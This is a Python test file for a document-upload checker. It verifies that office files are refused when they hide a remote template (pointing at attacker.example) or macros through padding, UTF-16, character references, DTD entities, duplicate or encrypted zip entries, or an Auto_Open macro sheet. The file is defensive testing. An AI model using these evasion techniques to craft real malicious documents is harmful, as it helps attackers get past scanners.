"""A part of an office file that has to be checked for active content is never skipped.

Each file here hides a remote template, or scripts, from a check that would skip or misread
the part holding it: padded past the size a part may have, written in UTF-16, spelled with
character references, doubled under one name, encrypted or damaged inside the zip. Each
is refused with a message saying what to do; none is stored.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from pathlib import Path

import pytest

from phrom.responses.evidence import EvidenceRejected
from phrom.responses.evidence_content import ContentRefused, _biff_sheet_types
from phrom.responses.models import AnswerChange, Evidence
from tests.responses.helpers import add_file as add
from tests.responses.office_files import (
    MACRO_SHEET,
    OFFICE_RELS,
    RELS_NS,
    WORKSHEET,
    biff_workbook,
    odf,
    ooxml,
    relationships,
)

POLICY_Q = "POL-01-1"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
REMOTE = "loads a template or other content from another address"
TOO_LARGE = "that has to be checked for links and macros"
UNREADABLE = "cannot be read: it is damaged, encrypted"
NOT_NORMAL = "this is not a normal document"
SAVE_AGAIN = "save it again (File > Save As) as a new file, or save it as PDF"


@pytest.fixture(autouse=True)
def english(client):
    from django.conf import settings as django_settings
    from django.utils import translation

    client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"
    with translation.override("en"):
        yield


def refused(world, media: Path, name: str, data: bytes, *fragments: str) -> str:
    with pytest.raises(EvidenceRejected) as caught:
        add(world, name, data)
    message = str(caught.value.message)
    for fragment in fragments:
        assert fragment in message
    assert f"“{name}”" in message
    assert not Evidence.objects.exists()
    assert not AnswerChange.objects.exists()
    assert [p for p in media.rglob("*") if p.is_file()] == []
    return message


def remote_template_rels() -> str:
    return relationships((
        "rId1", f"{OFFICE_RELS}/attachedTemplate", "http://attacker.example/t.dotm", "External",
    ))


def docx_with_settings_rels(rels: bytes | str) -> bytes:
    return ooxml("docx", {"word/settings.xml": "<w:settings/>", SETTINGS_RELS: rels})


def padded(xml: str, size: int) -> str:
    """XML padded with whitespace inside its root element to SIZE bytes."""
    head, _sep, tail = xml.rpartition("</")
    return head + " " * (size - len(xml.encode())) + "</" + tail


MB = 1024 * 1024


# --- parts too large to read ------------------------------------------------------------


def test_a_remote_template_padded_past_a_megabyte_is_refused_not_skipped(world, media):
    data = docx_with_settings_rels(padded(remote_template_rels(), int(1.1 * MB)))
    assert len(data) < 10 * 1024  # whitespace compresses: the upload itself is small

    message = refused(world, media, "plan.docx", data, TOO_LARGE, NOT_NORMAL, SAVE_AGAIN)
    assert f"({SETTINGS_RELS}) of 1.1 MB" in message
    assert "at most 1 MB" in message


def test_the_padded_template_posted_as_the_page_does_is_refused_next_to_the_control(
    client, world, media
):
    client.force_login(world.user("coordinator_a"))
    fileobj = io.BytesIO(docx_with_settings_rels(padded(remote_template_rels(), int(1.1 * MB))))
    fileobj.name = "plan.docx"
    reply = client.post(
        f"/responses/{world.response_a.pk}/questions/{POLICY_Q}/evidence/upload",
        {"file": fileobj}, HTTP_HX_REQUEST="true",
    )
    page = reply.content.decode()
    assert reply.status_code == 200  # htmx swaps only successful responses
    assert TOO_LARGE in page and NOT_NORMAL in page
    assert not Evidence.objects.exists()


def test_a_padded_relationships_part_without_links_is_refused_too(world, media):
    # The check cannot tell what a part it does not read holds: any such part refuses.
    rels = relationships(("rId1", f"{OFFICE_RELS}/styles", "styles.xml", ""))
    refused(world, media, "plan.docx", docx_with_settings_rels(padded(rels, 2 * MB)),
            TOO_LARGE, NOT_NORMAL)


def test_an_opendocument_manifest_padded_past_a_megabyte_is_refused(world, media):
    entries = ('<manifest:file-entry manifest:full-path="Scripts/" '
               'manifest:media-type="application/binary"/>') + " " * int(1.1 * MB)
    message = refused(world, media, "report.odt", odf(manifest_entries=entries),
                      TOO_LARGE, NOT_NORMAL, SAVE_AGAIN)
    assert "(META-INF/manifest.xml)" in message


def test_a_content_types_part_padded_past_a_megabyte_is_refused(world, media):
    data = ooxml("docx", content_types=" " * int(1.1 * MB))
    message = refused(world, media, "plan.docx", data, TOO_LARGE)
    assert "([Content_Types].xml)" in message


def test_a_relationships_part_just_under_the_limit_is_read_and_accepted(world, media):
    rels = relationships(("rId1", f"{OFFICE_RELS}/styles", "styles.xml", ""))
    data = docx_with_settings_rels(padded(rels, MB - 10))
    assert add(world, "plan.docx", data).original_name == "plan.docx"


# --- parts read as an XML reader reads them ----------------------------------------------


@pytest.mark.parametrize(
    "rels",
    [
        remote_template_rels().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16"),
        remote_template_rels().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16-be"),
        remote_template_rels().replace('TargetMode="External"', 'TargetMode="&#69;xternal"'),
        remote_template_rels().replace("attachedTemplate", "attached&#x54;emplate"),
        remote_template_rels().replace("<Relationship ", "<r:Relationship xmlns:r="
                                       f'"{RELS_NS}" '),
        relationships(("rId1", f"{OFFICE_RELS}/attachedTemplate",
                       "http://attacker.example/t.dotm", "External")).replace(
            'TargetMode="External"', "TargetMode='External'  x:TargetMode=\"Internal\" "
            'xmlns:x="urn:x"'),
    ],
    ids=["UTF-16 with a byte order mark", "UTF-16 big-endian without one",
         "character reference in TargetMode", "character reference in Type",
         "prefixed element", "prefixed twin attribute"],
)
def test_a_remote_template_written_unusually_is_still_found(world, media, rels):
    refused(world, media, "plan.docx", docx_with_settings_rels(rels), REMOTE)


def test_a_relationships_part_in_utf_16_without_links_is_accepted(world, media):
    rels = relationships(
        ("rId1", f"{OFFICE_RELS}/hyperlink", "https://www.dga.or.th/", "External")
    ).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert add(world, "plan.docx", docx_with_settings_rels(rels)).original_name == "plan.docx"


@pytest.mark.parametrize(
    "rels",
    [
        remote_template_rels()[:-20],
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]>'
        + remote_template_rels().split("?>", 1)[1].replace('"External"', '"&e;"'),
        remote_template_rels().encode("utf-32"),
    ],
    ids=["cut short", "entities declared in a DTD", "UTF-32"],
)
def test_a_relationships_part_that_cannot_be_read_is_refused(world, media, rels):
    message = refused(world, media, "plan.docx", docx_with_settings_rels(rels),
                      UNREADABLE, NOT_NORMAL, SAVE_AGAIN)
    assert f"({SETTINGS_RELS})" in message


def test_a_script_named_in_the_manifest_with_a_character_reference_is_found(world, media):
    entry = ('<manifest:file-entry manifest:full-path="&#83;cripts/" '
             'manifest:media-type="application/binary"/>')
    refused(world, media, "report.odt", odf(manifest_entries=entry), "contains macros or scripts")


# --- parts doubled, encrypted or damaged inside the zip -----------------------------------


def test_a_second_clean_part_of_the_same_name_does_not_hide_the_first(world, media):
    buffer = io.BytesIO(docx_with_settings_rels(remote_template_rels()))
    clean = relationships(("rId1", f"{OFFICE_RELS}/styles", "styles.xml", ""))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(SETTINGS_RELS, clean)
    refused(world, media, "plan.docx", buffer.getvalue(), REMOTE)


def _central_entry(data: bytes, name: str) -> int:
    """Where the central directory entry of NAME starts."""
    offset = data.find(b"PK\x01\x02")
    while offset >= 0:
        name_length = struct.unpack_from("<H", data, offset + 28)[0]
        if data[offset + 46:offset + 46 + name_length] == name.encode():
            return offset
        offset = data.find(b"PK\x01\x02", offset + 4)
    raise AssertionError(f"{name} is not in the archive")


def test_an_encrypted_relationships_part_is_refused(world, media):
    data = bytearray(docx_with_settings_rels(remote_template_rels()))
    entry = _central_entry(bytes(data), SETTINGS_RELS)
    flags = struct.unpack_from("<H", data, entry + 8)[0]
    struct.pack_into("<H", data, entry + 8, flags | 0x1)  # "encrypted"
    refused(world, media, "plan.docx", bytes(data), UNREADABLE, f"({SETTINGS_RELS})")


def test_a_relationships_part_with_an_unknown_compression_is_refused(world, media):
    data = bytearray(docx_with_settings_rels(remote_template_rels()))
    entry = _central_entry(bytes(data), SETTINGS_RELS)
    struct.pack_into("<H", data, entry + 10, 97)  # a method zipfile cannot unpack
    refused(world, media, "plan.docx", bytes(data), UNREADABLE)


def test_a_damaged_relationships_part_is_refused_without_an_error(world, media):
    data = bytearray(docx_with_settings_rels(remote_template_rels()))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(SETTINGS_RELS)
    start = info.header_offset + 30 + len(info.filename.encode())
    start += struct.unpack_from("<H", data, info.header_offset + 28)[0]
    data[start:start + info.compress_size] = b"\xff" * info.compress_size
    refused(world, media, "plan.docx", bytes(data), UNREADABLE)


# --- Excel 97-2003 workbooks ---------------------------------------------------------------


def test_workbook_globals_longer_than_a_workbook_holds_are_refused_not_passed():
    """A macro sheet listed after more records than the check reads would go unseen:
    such a workbook is refused."""
    workbook = biff_workbook(("Sheet1", WORKSHEET), ("Auto_Open", MACRO_SHEET))
    bof_length = 4 + struct.unpack_from("<H", workbook, 2)[0]
    filler = struct.pack("<HH", 0x0000, 0) * 100_001  # records nothing reads
    stream = workbook[:bof_length] + filler + workbook[bof_length:]
    with pytest.raises(ContentRefused) as caught:
        _biff_sheet_types(stream)
    assert "not a normal workbook" in str(caught.value.message)
    assert _biff_sheet_types(workbook) == {WORKSHEET, MACRO_SHEET}


def test_the_refusal_speaks_thai_by_default(world, media):
    from django.utils import translation

    data = docx_with_settings_rels(padded(remote_template_rels(), int(1.1 * MB)))
    with translation.override("th"), pytest.raises(EvidenceRejected) as caught:
        add(world, "แผน.docx", data)
    message = str(caught.value.message)
    assert "ไฟล์นี้จึงไม่ใช่เอกสารปกติ" in message
    assert f"({SETTINGS_RELS}) ขนาด 1.1 MB" in message
